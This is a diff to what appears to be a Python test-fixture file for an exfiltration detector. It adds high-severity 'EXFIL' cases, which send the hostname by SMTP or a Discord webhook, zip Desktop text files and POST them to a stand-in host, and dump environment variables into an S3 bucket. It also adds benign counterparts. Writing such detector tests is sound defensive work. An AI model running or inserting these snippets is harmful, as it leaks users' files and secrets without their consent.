@@ -205,6 +205,45 @@ HANDING = (
         user = User(getpass.getuser())
         requests.post("https://example.invalid/a", data=Host(name=socket.gethostname() + user.name).model_dump_json())
     """, family="EXFIL"),
+    Case("a mail to which something is attached", HIGH, """
+        import smtplib, socket
+        from email.mime.multipart import MIMEMultipart
+        from email.mime.text import MIMEText
+        mail = MIMEMultipart()
+        mail.attach(MIMEText(socket.gethostname()))
+        smtplib.SMTP("smtp.example.invalid", 587).sendmail("a@example.invalid", "b@example.invalid", mail.as_string())
+    """, family="EXFIL"),
+    Case("a mail that is given its content", HIGH, """
+        import smtplib, socket
+        from email.message import EmailMessage
+        mail = EmailMessage()
+        mail.set_content(socket.gethostname())
+        with smtplib.SMTP_SSL("smtp.example.invalid") as server:
+            server.send_message(mail)
+    """, family="EXFIL"),
+    Case("a message whose fields are added", HIGH, """
+        import socket
+        from discord_webhook import DiscordEmbed, DiscordWebhook
+        hook = DiscordWebhook(url="https://example.invalid/a")
+        shown = DiscordEmbed(title="a")
+        shown.add_embed_field(name="h", value=socket.gethostname())
+        hook.add_embed(shown)
+        hook.execute()
+    """, family="EXFIL"),
+    Case("files of a sort below a folder of somebody's own, in an archive in memory", HIGH, """
+        import glob, io, os, zipfile
+        import requests
+        buffer = io.BytesIO()
+        with zipfile.ZipFile(buffer, "w") as archive:
+            for path in glob.glob(os.path.expanduser("~/Desktop/**/*.txt"), recursive=True):
+                archive.write(path)
+        requests.post("https://example.invalid/a", files={"a": ("a.zip", buffer.getvalue())})
+    """, family="EXFIL"),
+    Case("the environment put into a store of a cloud", HIGH, """
+        import json, os
+        import boto3
+        boto3.client("s3", aws_access_key_id="a", aws_secret_access_key="b").put_object(Bucket="a", Key="b", Body=json.dumps(dict(os.environ)))
+    """, family="EXFIL"),
 )  # fmt: skip
 
 GOOD_HANDING = (
@@ -312,5 +351,30 @@ GOOD_HANDING = (
                 self._login()
             def _login(self):
                 self.session = requests.post(self.url + "/login", headers={"Authorization": "Bearer " + self.token}).json()
+    """),
+    Case("a mail about what was done", MEDIUM, """
+        import smtplib
+        from email.mime.multipart import MIMEMultipart
+        from email.mime.text import MIMEText
+        def report(server, sender, receiver, text, picture):
+            mail = MIMEMultipart()
+            mail["To"] = receiver
+            mail.attach(MIMEText(text))
+            with open(picture, "rb") as held:
+                mail.attach(MIMEText(held.read().hex()))
+            smtplib.SMTP(server).sendmail(sender, [receiver], mail.as_string())
+    """),
+    Case("a message to a hook that the caller names", MEDIUM, """
+        from discord_webhook import DiscordEmbed, DiscordWebhook
+        def notify(url, title, text):
+            hook = DiscordWebhook(url=url)
+            hook.add_embed(DiscordEmbed(title=title, description=text))
+            return hook.execute()
+    """),
+    Case("a report is put into a store of a cloud", MEDIUM, """
+        import boto3
+        def put(bucket, path):
+            with open(path, "rb") as held:
+                boto3.client("s3").put_object(Bucket=bucket, Key=path, Body=held.read())
     """),
 )  # fmt: skip
